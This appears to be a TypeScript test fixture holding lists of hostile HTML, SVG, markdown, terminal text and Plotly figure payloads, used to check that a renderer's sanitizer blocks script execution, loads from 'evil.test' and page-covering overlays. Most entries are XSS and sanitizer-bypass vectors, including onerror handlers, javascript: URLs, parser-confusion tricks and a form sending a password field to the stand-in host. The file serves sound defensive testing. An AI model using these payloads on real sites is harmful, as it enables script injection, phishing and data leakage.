/**
 * Pieces of HTML, SVG, markdown and text that try to run something in a page, to load something, or to cover it.
 * `ran(…)` in them is what the test's page counts; addresses at `http://evil.test` are what its server counts.
 */

/** What code says that runs. */
const code = "window.ran.push(1)";
const js = `javascript:${code}`;
const address = "http://evil.test/x";

/** HTML as an output or in markdown. */
export const hostileHtml: readonly string[] = [
  `<script>${code}</script>`,
  `<script src="${address}"></script>`,
  `<SCRIPT/x>${code}</SCRIPT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<img src=x onerror="${code}">`,
  `<img src="${address}.png">`,
  `<img srcset="${address} 1x, ${address}2 2x">`,
  `<img src="//evil.test/y.png"><img src="\\\\evil.test\\z.png"><img src="beside.png"><img src="/root.png">`,
  `<img/src='data:image/png;base64,x'/onerror=${code}>`,
  `<svg onload="${code}"><circle r="3"/></svg>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><script xlink:href="${address}"></script></svg>`,
  `<svg><a xlink:href="${js}"><text y="20">click</text></a></svg>`,
  `<svg><image href="${address}.png"/><image xlink:href="${address}.png" width="9" height="9"/></svg>`,
  `<svg><use href="${address}.svg#a"/><feImage href="${address}.png"/></svg>`,
  `<svg><filter id="f"><feImage href="${address}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  `<svg><rect fill="url(${address}.svg#p)" mask="url('${address}.svg#m')" width="9" height="9"/></svg>`,
  `<svg><animate attributeName="href" to="${js}"/><set attributeName="onclick" to="${code}"/></svg>`,
  `<svg><a><animate attributeName="href" values="${js}"/><text y="20">x</text></a></svg>`,
  `<svg><foreignObject><iframe src="${address}"></iframe><body onload="${code}"></foreignObject></svg>`,
  `<svg><style>@import "${address}.css"; * { fill: url(${address}) }</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<math href="${js}"><maction actiontype="statusline#${address}" xlink:href="${js}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<iframe src="${js}"></iframe><iframe srcdoc="<script>parent.ran.push(1)</script>"></iframe>`,
  `<iframe src="${address}"></iframe><frameset><frame src="${address}"></frameset>`,
  `<object data="${address}"></object><embed src="${address}"><applet code="${address}"></applet>`,
  `<object data="data:text/html,<script>parent.ran.push(1)</script>"></object>`,
  `<link rel="stylesheet" href="${address}.css"><link rel="preload" as="image" href="${address}.png"><link rel="prefetch" href="${address}">`,
  `<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="http://evil.test"><link rel="icon" href="${address}.ico">`,
  `<style>@import url(${address}.css); body { background: url(${address}.png) } main { display: none }</style>`,
  `<style>@font-face { font-family: f; src: url(${address}.woff) } body { font-family: f; } .output { contain: none !important }</style>`,
  `<div style="background:url(${address}.png)">x</div><div style="background-image:image-set('${address}.png' 1x)">x</div>`,
  `<div style="background:\\75rl(${address}.png)">x</div><div style="b\\61 ckground:u/**/rl(${address}.png)">x</div>`,
  `<div style="list-style:url(${address}.png);cursor:url(${address}.cur),auto;content:url(${address})">x</div>`,
  `<div style="width:expression(${code});behavior:url(${address});-moz-binding:url(${address})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="https://evil.test">log in</a></div>`,
  `<div style="position:absolute;top:-5000px;left:-5000px;width:99999px;height:99999px">cover</div>`,
  `<div style="margin:-5000px;padding:5000px;transform:scale(99)"><a href="https://evil.test">cover</a></div>`,
  `<svg overflow="visible" style="overflow:visible" width="1" height="1"><a href="https://evil.test"><rect x="-5000" y="-5000" width="10000" height="10000"/></a></svg>`,
  `<dialog open style="top:0">dialog</dialog><div popover="auto" id="p">p</div><button popovertarget="p">b</button>`,
  `<base href="${address}/"><meta http-equiv="refresh" content="0;url=${address}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'none'"><meta charset="utf-7">`,
  `<form action="${address}"><input name="password" autofocus onfocus="${code}"><button formaction="${js}">go</button></form>`,
  `<input type="image" src="${address}.png"><textarea></textarea><select><option>x</select><isindex action="${js}">`,
  `<a href="${js}">1</a><a href="JaVaScRiPt:${code}">2</a><a href="java\nscript:${code}">3</a><a href=" &#1; ${js}">4</a>`,
  `<a href="java&#115;cript&colon;${code}">5</a><a href="&#x6A;avascript:${code}">6</a><a href="\u0001javascript:${code}">7</a>`,
  `<a href="data:text/html,<script>${code}</script>">8</a><a href="vbscript:msgbox(1)">9</a><a href="file:///etc/passwd">10</a>`,
  `<a href="blob:${address}">11</a><a href="view-source:${js}">12</a><a href="x" ping="${address}" target="_self">13</a>`,
  `<a href="//evil.test/share">14</a><a href="\\\\evil.test\\share">15</a><a href="https:${js}">16</a>`,
  `<area href="${js}"><map name="m"><area href="${js}" coords="0,0,99,99"></map><img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  `<video src="${address}.mp4" poster="${address}.png" onloadstart="${code}" autoplay></video><audio src="${address}.mp3" autoplay></audio>`,
  `<video><source src="${address}" onerror="${code}"></video><track src="${address}"><picture><source srcset="${address}"></picture>`,
  `<details open ontoggle="${code}"><summary>x</summary></details><marquee onstart="${code}">x</marquee>`,
  `<body onload="${code}" background="${address}.png"><table background="${address}.png"><td background="${address}.png">x</table>`,
  `<p onmouseover="${code}" onclick="${code}" onanimationstart="${code}" style="animation:a">hover</p>`,
  `<div id="Plotly"></div><a id="Plotly" name="newPlot" href="x">clobber</a><img name="querySelectorAll"><form id="document"></form>`,
  `<div class="plotly"><script type="application/json">{"data":[],"layout":{}}</script></div><div class="plotly"></div>`,
  `<template><script>${code}</script></template><template shadowrootmode="open"><style>:host{position:fixed;inset:0}</style><img src=x onerror=${code}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript><xmp><script>${code}</script></xmp><plaintext>`,
  `<!--><img src=x onerror=${code}>--><![CDATA[<img src=x onerror=${code}>]]><?xml-stylesheet href="${address}.xsl"?>`,
  `</section></main></body></html><script>${code}</script><main>`,
  `<p title="&quot;&gt;&lt;script&gt;${code}&lt;/script&gt;">x</p><p>\u2028\u0000<b\u0000 onclick=${code}>y`,
  `${"<div>".repeat(3_000)}<img src=x onerror=${code}>`,
];

/** Markdown of its own. */
export const hostileMarkdown: readonly string[] = [
  `# <img src=x onerror=${code}> & "title" </title><script>${code}</script>`,
  `[click](${js}) [click](JAVASCRIPT:${code}) [click](data:text/html,<script>${code}</script>) <${js}>`,
  `![picture](${address}.png) ![picture](//evil.test/p.png "x\\" onerror=\\"${code}") ![beside](beside.png)`,
  `![attached](attachment:a.png) ![svg](attachment:b.svg) ![html](attachment:c.html) ![none](attachment:__proto__)`,
  `[ref]\n\n[ref]: ${js}\n\n<div\nonclick="${code}">\n\n**bold**\n\n</div>`,
  '```html"><img src=x onerror=window.ran.push(1)>\n</code></pre><script>window.ran.push(1)</script>\n```',
  `$$\\href{${js}}{x} \\unicode{<img src=x onerror=${code}>}$$ and $\\require{html}\\style{background:url(${address})}{x}$`,
];

/** Text that is shown as text. */
export const hostileText: readonly string[] = [
  `<script>${code}</script>`,
  `</pre><img src=x onerror=${code}>`,
  `"><svg onload=${code}>`,
  `\u001b]8;;${js}\u0007link\u001b]8;;\u0007 \u001b[31m<b>red</b>`,
];

/** Figures: their data, layout and config. */
export const hostileFigures: readonly object[] = [
  {
    data: [{ y: [1, 2, 3], name: `</script><script>${code}</script><img src=x onerror=${code}>` }],
    layout: { title: { text: `<a href="${js}">title</a> <img src=x onerror=${code}><svg onload=${code}>` } },
  },
  {
    data: [
      {
        type: "bar",
        x: [`<a href="${js}">x</a>`, `<b onclick="${code}">y</b>`],
        y: [2, 1],
        text: [`<a href="data:text/html,<script>${code}</script>" target="_self" popup='");${code};("'>text</a>`, "y"],
        hovertemplate: `<a href="${js}">%{y}</a><script>${code}</script><extra><img src=x onerror=${code}></extra>`,
      },
    ],
    layout: {
      showlegend: true,
      images: [{ source: `${address}.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
      xaxis: {
        title: { text: `<span style="fill:url(${address});background:url(${address}.png)" onclick="${code}">x</span>` },
      },
      annotations: [
        {
          text: `<span style="background:&#117;rl(${address})">a</span>`,
          x: 0,
          y: 1,
          hovertext: `<a href="${js}">h</a>`,
        },
      ],
      template: {
        layout: { images: [{ source: `${address}.png` }], annotationdefaults: { text: `<img src=x onerror=${code}>` } },
      },
      updatemenus: [{ buttons: [{ method: "constructor", args: [code], label: `<img src=x onerror=${code}>` }] }],
    },
    config: {
      plotlyServerURL: "http://evil.test",
      showSendToCloud: true,
      showEditInChartStudio: true,
      showLink: true,
      linkText: `<img src=x onerror=${code}>`,
      topojsonURL: "http://evil.test/",
      displaylogo: true,
      setBackground: code,
      logging: 2,
    },
  },
  {
    data: [
      { type: "image", source: `${address}.png` },
      { type: "image", z: [[[1, 2, 3]]] },
    ],
    layout: {},
  },
  { data: [{ type: "scattergeo", lon: [1], lat: [1] }], layout: { geo: { scope: "europe" } } },
  { data: [{ type: "choropleth", locations: ["DEU"], z: [1], geojson: `${address}.json` }], layout: {} },
  { data: [{ type: "scattermap", lon: [1], lat: [1] }], layout: { map: { style: `${address}.json` } } },
  {
    data: [{ type: "scattermapbox", lon: [1], lat: [1] }],
    layout: { mapbox: { style: `${address}.json`, accesstoken: "x" } },
  },
  {
    data: [
      { type: "scattergl", y: [1, 2] },
      { type: "scatter3d", x: [1], y: [1], z: [1] },
    ],
    layout: {},
  },
  {
    data: [
      {
        type: "table",
        header: { values: [`<a href="${js}">h</a>`] },
        cells: { values: [[`<img src=x onerror=${code}>`]] },
      },
    ],
    layout: {},
  },
  {
    data: [{ type: "sunburst", labels: [`<a href="${js}">a</a>`], parents: [""] }],
    layout: { title: `<a href='${js}'>t</a>` },
  },
  { data: [null, 5], layout: null },
  { data: "x", layout: [] },
  [],
];
